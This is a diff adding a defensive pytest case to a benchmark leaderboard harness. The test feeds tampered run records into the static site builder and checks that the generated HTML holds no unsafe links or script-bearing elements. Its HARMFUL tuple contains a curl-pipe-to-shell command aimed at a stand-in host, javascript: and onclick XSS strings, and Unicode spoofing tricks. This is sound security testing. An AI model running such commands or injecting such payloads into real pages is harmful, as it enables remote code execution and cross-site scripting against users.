@@ -11,8 +11,10 @@ from typing import Any
 import pytest
 
 from harness.leaderboard import strict_json
+from harness.leaderboard.site import build
 from harness.leaderboard.validate import validate
 from tests.conftest import ROOT
+from tests.leaderboard.generated import groups, runs, write_all
 from tests.leaderboard.tampered import Json, Submission
 
 Attack = Callable[[Submission], object]
@@ -321,3 +323,29 @@ def test_new_runs_among_published_ones_keep_all_that_a_check_needs(board: Path, 
 def test_json_is_read_in_one_way(text: bytes) -> None:
     with pytest.raises(strict_json.ResultError, match="file"):
         strict_json.decode(text, "file")
+
+
+HARMFUL: tuple[Callable[[Json], object], ...] = (
+    lambda r: r["method"].update(label="d\u0435nse"),
+    lambda r: r["method"].update(label="\u3164"),
+    lambda r: r["method"].update(label="\u202eesned"),
+    lambda r: r.update(warnings=["\u202e" + "x" * 3000], command="curl -s https://evil.test/x | sh"),
+    lambda r: r["model"].update(name="a" + "\u0301" * 200),
+    lambda r: r["baseline"]["ratios"]["flops"].update(value=1e29),
+    lambda r: r["baseline"]["ratios"]["latency"].update(value=-0.5, low=-1.0),
+    lambda r: r.update(missing={"javascript:alert(1)": "<b onclick=alert(1)>"}),
+)
+
+
+@pytest.mark.slow
+def test_what_a_board_is_built_of_without_a_check_does_no_harm(tmp_path: Path, opened: Any) -> None:
+    made = list(runs(groups(1, 1, 1)[0], settings=len(HARMFUL)))
+    for run, change in zip(made[1:], HARMFUL, strict=True):
+        change(run.record)
+    write_all(tmp_path / "runs", made)
+    site = tmp_path / "site"
+    assert build(tmp_path / "runs", site).runs == len(made)
+    for path in [site / "index.html", *sorted((site / "runs").rglob("*.html"))]:
+        page = opened(path.relative_to(site).as_posix(), folder=site)
+        assert page.evaluate("[...document.links].every((a) => /^(file|https):/.test(a.href))")
+        assert page.evaluate("document.querySelectorAll('img, iframe, object, [onclick]').length") == 0
